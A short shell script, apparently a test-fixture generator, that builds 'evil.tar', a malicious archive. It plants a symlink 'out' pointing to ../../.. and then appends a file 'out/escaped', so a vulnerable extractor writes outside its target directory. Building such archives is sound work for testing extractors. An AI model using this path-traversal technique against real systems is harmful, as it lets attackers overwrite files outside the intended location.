mkdir t
ln -s ../../.. t/out
tar -cf evil.tar -C t out
rm t/out
echo evil > t/x
tar --transform='s,^x,out/escaped,' -rf evil.tar -C t x
rm -r t
